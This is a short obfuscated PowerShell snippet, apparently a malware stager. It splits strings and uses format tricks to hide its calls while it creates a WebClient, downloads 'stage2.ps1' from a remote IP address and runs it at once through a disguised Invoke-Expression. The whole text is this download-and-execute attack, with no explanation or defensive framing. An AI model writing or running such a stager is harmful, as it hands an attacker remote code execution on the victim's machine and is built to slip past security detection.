$w = New-Object ('Net.' + 'Web' + 'Client')
$m = ("{1}{0}" -f 'String', 'Download')
$u = 'http://198.51.100.23/' + 'stage2.ps1'
&('i' + 'ex') ($w.($m)($u))
